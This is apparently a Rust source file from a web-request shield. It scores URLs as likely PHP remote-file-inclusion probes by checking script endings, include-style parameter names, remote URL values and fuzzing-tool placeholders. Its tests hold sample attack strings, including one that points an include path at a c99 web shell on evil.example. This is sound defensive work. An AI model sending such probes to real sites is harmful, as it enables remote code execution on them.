//! Remote file inclusion: the address of a script, sent as a value, with one of
//! its parameters naming a place the script would include from.
//!
//! Word lists of such addresses are replayed against every site. What tells
//! them from `next=/index.php?page=2` is the parameter: a directory of the
//! application or a superglobal, set to another host, to a path, or to the
//! placeholder that a tool was meant to fill. Source: CVE entries of PHP remote
//! file inclusion (CWE-98); the markers of wfuzz, fimap, nikto and fuzzdb.

use super::evidence::{Evidence, Texture};
use crate::text::cursor::{find, find_ci, starts_with_ci};
use crate::text::path;

/// Endings of scripts that include files.
const SCRIPTS: [&[u8]; 12] = [
    b"php", b"php3", b"php4", b"php5", b"phtml", b"inc", b"asp", b"aspx", b"jsp", b"cgi", b"pl",
    b"cfm",
];

/// What the name of an include parameter holds.
const PLACES: [&[u8]; 13] = [
    b"path",
    b"root",
    b"dir",
    b"include",
    b"inc_",
    b"base",
    b"cfg",
    b"conf",
    b"lib",
    b"globals[",
    b"_server[",
    b"_env[",
    b"_request[",
];

/// The strongest evidence in `text`.
pub(crate) fn find_in(text: &[u8], texture: Texture) -> Option<Evidence> {
    let text = text.trim_ascii();
    if texture.length > 400 || text.iter().any(u8::is_ascii_whitespace) {
        return None;
    }
    let at = text.iter().position(|b| *b == b'?')?;
    let (script, query) = (text.get(..at)?, text.get(at.saturating_add(1)..)?);
    let (_, ending) = path::split_ending(script)?;
    if !SCRIPTS.iter().any(|s| ending.eq_ignore_ascii_case(s)) {
        return None;
    }
    let score = query.split(|b| *b == b'&').map(parameter).max()?;
    (score > 0).then(|| Evidence::new("shield.traversal.remote", score, at, text.len()))
}

/// The belief that one parameter includes.
fn parameter(pair: &[u8]) -> u16 {
    let equals = pair.iter().position(|b| *b == b'=').unwrap_or(pair.len());
    let (name, value) = pair.split_at(equals);
    let value = value.get(1..).unwrap_or_default();
    let cut = value.ends_with(b"?");
    let value = value.strip_suffix(b"?").unwrap_or(value);
    let value = value.strip_suffix(b"?").unwrap_or(value);
    let place = PLACES.iter().any(|word| find_ci(name, word).is_some());
    let elsewhere = find(value.get(..value.len().min(8)).unwrap_or_default(), b"://").is_some()
        || starts_with_ci(value, b"//");
    match (place, elsewhere) {
        (true, true) => 8500,
        _ if is_placeholder(value) || is_placeholder(pair) => 7000,
        (true, false) if cut && !value.is_empty() => 6500,
        (false, true) if cut => 6500,
        (true, false) if value.starts_with(b"/") || value.starts_with(b"..") => 5500,
        _ => 0,
    }
}

/// `XXpathXX`, `FUZZ`, `{FILE}`, `@RFIURL`: what a tool should have replaced.
pub(super) fn is_placeholder(value: &[u8]) -> bool {
    let marked = value.len() > 5
        && value.ends_with(b"XX")
        && find(value, b"XX").is_some_and(|at| {
            value
                .get(at.saturating_add(2)..value.len().saturating_sub(2))
                .is_some_and(|inner| !inner.is_empty() && inner.iter().all(u8::is_ascii_lowercase))
        });
    marked || [&b"FUZZ"[..], b"{FILE}", b"@RFIURL", b"{cmd}"].contains(&value)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(text: &str) -> u16 {
        let texture = Texture {
            length: text.len(),
            ..Texture::default()
        };
        find_in(text.as_bytes(), texture).map_or(0, |e| e.score)
    }

    #[test]
    fn includes_and_addresses() {
        for text in [
            "/admin/x.php?mosConfig_absolute_path=http://evil.example/c99.txt?",
            "/index.php?GLOBALS[root]=ftp://evil.example/x",
            "/inc/inc.php?cfg_racine=XXpathXX?",
            "/a.php?base_dir=x?",
        ] {
            assert!(score(text) >= 5000, "{text}");
        }
        for text in [
            "/index.php?page=2",
            "/login.php?return=https://example.com/",
            "/wp-admin/edit.php?post_type=page&paged=3",
            "https://example.com/share.php?url=https://example.org/a&lang=de",
            "/viewtopic.php?f=1&t=2",
            "a.html?path=/x",
        ] {
            assert!(score(text) < 5000, "{text}");
        }
    }
}
